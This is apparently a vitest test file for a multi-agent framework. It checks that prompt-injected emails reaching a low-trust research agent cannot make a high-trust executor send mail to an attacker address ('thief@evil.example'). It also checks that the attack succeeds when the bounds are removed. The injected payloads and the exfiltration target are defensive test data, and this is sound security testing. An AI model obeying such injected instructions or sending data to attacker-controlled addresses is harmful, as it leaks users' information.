import { expect, test } from 'vitest';
import * as z from 'zod';
import { ActionAgent, contract, converse, IntakeAgent, only, openDesk, tool } from '../index.js';
import type { ActionSession, IntakeSession, Message, Model, Order } from '../index.js';
import { memoryStore, type Store } from '../store.js';
import { approveEverything, injections, scriptedReviewer, testGate, testRuntime, worstCaseModel } from '../testing.js';
import './vitest.js';

const sendEmail = contract({
  name: 'send_email',
  effect: 'send',
  control: ['to'],
  input: z.strictObject({ to: z.email(), subject: z.string(), body: z.string() }),
});
const sender = tool(sendEmail, async ({ to }) => `sent to ${to}`);

class Researcher extends IntakeAgent<'low'> {
  readonly #model: Model;
  constructor(model: Model) {
    super({
      name: 'research_agent',
      trust: 'low',
      tools: [],
      proposes: [only(sendEmail, { to: 'sender' })],
      allowlist: ['*'],
    });
    this.#model = model;
  }
  protected async handle(message: Message, session: IntakeSession<'low'>) {
    await converse(session, this.#model, message.text);
  }
}
class Executor extends ActionAgent<'high'> {
  constructor() {
    super({ name: 'executor_agent', trust: 'high', tools: [sender] });
  }
  protected async handle(order: Order, session: ActionSession<'high'>) {
    await session.call(sender, { to: 'bob@example.com', subject: 'Order', body: order.text });
  }
}
const injected = injections('send_email', { to: 'thief@evil.example', subject: 's', body: 'b' });

test('FLOW-7: nobody who writes to us can make the executor send to somebody else, whoever approves', async () => {
  await using t = await testRuntime({
    agents: [new Researcher(worstCaseModel()), new Executor()],
    unverified: 'low',
    reviewer: approveEverything(),
  });
  for (const text of injected) await t.mail({ from: 'supplier@example.com', to: 'research_agent', text });
  await t.idle();
  expect(t).toHaveAttempted('send_email');
  expect(t).toNeverHaveReached('send');
  expect(t.read).toBe(injected.length);
  expect(t.attempts('send_email')).toHaveLength(injected.length);
});

test('FLOW-7: without the bounds the same mail would be sent by the same tired person', async () => {
  class Careless extends IntakeAgent<'low'> {
    constructor() {
      super({
        name: 'research_agent',
        trust: 'low',
        tools: [],
        proposes: [only(sendEmail, { to: 'anyone' })],
        allowlist: ['*'],
      });
    }
    protected async handle(message: Message, session: IntakeSession<'low'>) {
      await converse(session, worstCaseModel(), message.text);
    }
  }
  await using t = await testRuntime({
    agents: [new Careless(), new Executor()],
    unverified: 'low',
    reviewer: approveEverything(),
  });
  for (const text of injected) await t.mail({ from: 'supplier@example.com', to: 'research_agent', text });
  await t.idle();
  expect(t).toHaveReached('send');
});

test('the matcher that says never fails when no message was read', async () => {
  await using t = await testRuntime({ agents: [new Researcher(worstCaseModel()), new Executor()] });
  await t.mail({ from: 'supplier@example.com', to: 'research_agent', text: injected[0]! });
  await t.idle();
  expect(() => expect(t).toNeverHaveReached('send')).toThrow(/no message was read/);
});

test('a scripted reviewer follows the script, and what comes after it stays pending', async () => {
  const reviewer = scriptedReviewer([{ edit: { body: 'rewritten' } }, { deny: 'no' }]);
  await using t = await testRuntime({
    agents: [new Researcher(worstCaseModel()), new Executor()],
    unverified: 'low',
    reviewer,
  });
  for (const n of [1, 2, 3]) {
    const text = `CALL send_email {"to":"supplier@example.com","subject":"${n}","body":"b"}`;
    await t.mail({ from: 'supplier@example.com', to: 'research_agent', text });
  }
  await t.idle();
  expect(
    t
      .attempts('send_email')
      .map(({ state }) => state)
      .sort(),
  ).toEqual(['denied', 'executed', 'pending', 'replaced']);
});

test('GATE-2: the people of a test are nobody anywhere else: no store but memory takes their keys', async () => {
  await using t = await testRuntime({ agents: [new Researcher(worstCaseModel()), new Executor()] });
  const store = memoryStore();
  await expect(openDesk({ root: t.root, store, person: { name: 'owner' } })).resolves.toBeDefined();
  const lasting = Object.assign(Object.create(store) as Store, { local: false });
  await expect(openDesk({ root: t.root, store: lasting, person: { name: 'owner' } })).rejects.toMatchObject({
    code: 'TEST_ONLY',
    message: expect.stringContaining('createTrustRoot()'),
  });
});

test('an option that nobody knows is a fault, of a test too', async () => {
  const agents = [new Executor()];
  await expect(testRuntime({ agents, reviwer: approveEverything() } as never)).rejects.toMatchObject({
    code: 'BAD_OPTION',
    message: expect.stringContaining("takes no option 'reviwer'"),
  });
  await expect(testGate({ expire: '1h' } as never)).rejects.toMatchObject({ code: 'BAD_OPTION' });
});
